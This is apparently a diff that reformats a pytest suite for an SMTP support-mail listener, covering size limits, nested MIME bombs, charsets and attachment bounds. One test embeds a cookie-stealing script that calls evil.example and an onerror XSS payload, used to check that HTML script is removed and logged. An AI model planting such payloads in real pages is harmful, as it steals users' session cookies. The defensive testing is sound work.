@@ -78,7 +78,9 @@ async def test_a_publish_failure_answers_451_so_the_sender_retries(listener):
 async def test_a_20_mb_attachment_is_refused_with_552(listener):
     smtp, published = listener
     mail = customer_mail("see the statement attached")
-    mail.add_attachment(b"\0" * (20 * 1024 * 1024), maintype="application", subtype="pdf", filename="statement.pdf")
+    mail.add_attachment(
+        b"\0" * (20 * 1024 * 1024), maintype="application", subtype="pdf", filename="statement.pdf"
+    )
     with pytest.raises((smtplib.SMTPSenderRefused, smtplib.SMTPDataError)) as refused:
         await send_smtp(smtp.port, mail)
     assert refused.value.smtp_code == 552
@@ -98,17 +100,27 @@ def _send_without_size_parameter(port: int, raw: bytes) -> None:
 async def test_oversized_data_without_a_size_announcement_is_refused_with_552(listener):
     smtp, published = listener
     mail = customer_mail("big")
-    mail.add_attachment(b"\0" * (12 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="x.bin")
+    mail.add_attachment(
+        b"\0" * (12 * 1024 * 1024), maintype="application", subtype="octet-stream", filename="x.bin"
+    )
     with pytest.raises(smtplib.SMTPDataError) as refused:
-        await asyncio.to_thread(_send_without_size_parameter, smtp.port, mail.as_bytes(policy=mail.policy.clone(linesep="\r\n")))
+        await asyncio.to_thread(
+            _send_without_size_parameter,
+            smtp.port,
+            mail.as_bytes(policy=mail.policy.clone(linesep="\r\n")),
+        )
     assert refused.value.smtp_code == 552
     assert published.envelopes == []
 
 
 def _nested_bomb(depth: int) -> bytes:
     head = f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: bomb\r\nMessage-ID: <bomb@example.net>\r\nMIME-Version: 1.0\r\n"
-    body = "".join(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth))
-    body += "Content-Type: text/plain\r\n\r\nhello\r\n" + "".join(f"--b{i}--\r\n" for i in reversed(range(depth)))
+    body = "".join(
+        f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n' for i in range(depth)
+    )
+    body += "Content-Type: text/plain\r\n\r\nhello\r\n" + "".join(
+        f"--b{i}--\r\n" for i in reversed(range(depth))
+    )
     return (head + body).encode()
 
 
@@ -135,7 +147,8 @@ async def test_script_in_html_is_removed_and_logged(listener):
     mail["From"], mail["To"], mail["Subject"] = CUSTOMER, SUPPORT, "html only"
     mail.set_content(
         "<html><body><p>转账失败了</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
-        "<img src=x onerror=alert(1)><p>钱已经扣了</p></body></html>", subtype="html",
+        "<img src=x onerror=alert(1)><p>钱已经扣了</p></body></html>",
+        subtype="html",
     )
     with capture_logs() as logs:
         await send_smtp(smtp.port, mail)
@@ -182,9 +195,14 @@ async def test_mail_without_any_valid_sender_is_refused_with_550(listener):
 async def test_invalid_bytes_and_an_unknown_charset_are_decoded_with_replacement(listener):
     smtp, published = listener
     raw = (
-        f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: =?x-martian?q?hi?=\r\nMIME-Version: 1.0\r\n"
-        "Content-Type: text/plain; charset=x-martian\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
-    ).encode() + "转账失败".encode() + b"\xff\xfe\xfa" + b" TX1\r\n"
+        (
+            f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: =?x-martian?q?hi?=\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: text/plain; charset=x-martian\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+        ).encode()
+        + "转账失败".encode()
+        + b"\xff\xfe\xfa"
+        + b" TX1\r\n"
+    )
     with capture_logs() as logs:
         await send_smtp(smtp.port, raw)
     envelope = published.envelopes[0]
@@ -197,9 +215,13 @@ async def test_gb2312_mail_is_read_even_with_gbk_only_characters(listener):
     smtp, published = listener
     text = "转账失败了，钱已经扣了 — 镕"  # 镕 is in GBK, not in GB2312
     raw = (
-        f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
-        "Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
-    ).encode() + text.encode("gb18030") + b"\r\n"
+        (
+            f"From: {CUSTOMER}\r\nTo: {SUPPORT}\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
+            "Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
+        ).encode()
+        + text.encode("gb18030")
+        + b"\r\n"
+    )
     await send_smtp(smtp.port, raw)
     assert published.envelopes[0].text == text
 
@@ -207,11 +229,17 @@ async def test_gb2312_mail_is_read_even_with_gbk_only_characters(listener):
 async def test_attachments_are_listed_as_metadata_within_a_bound(listener):
     smtp, published = listener
     mail = customer_mail("转账失败，截图见附件")
-    mail.add_attachment(b"\x89PNG" + b"\0" * 2000, maintype="image", subtype="png", filename="转账截图.png")
+    mail.add_attachment(
+        b"\x89PNG" + b"\0" * 2000, maintype="image", subtype="png", filename="转账截图.png"
+    )
     for i in range(30):
         mail.add_attachment(b"x", maintype="text", subtype="csv", filename=f"f{i}.csv")
     await send_smtp(smtp.port, mail)
     envelope = published.envelopes[0]
-    assert envelope.attachments[0].model_dump() == {"name": "转账截图.png", "content_type": "image/png", "size": 2004}
+    assert envelope.attachments[0].model_dump() == {
+        "name": "转账截图.png",
+        "content_type": "image/png",
+        "size": 2004,
+    }
     assert len(envelope.attachments) == 20
     assert "attachments_not_listed:11" in envelope.thread["problems"]
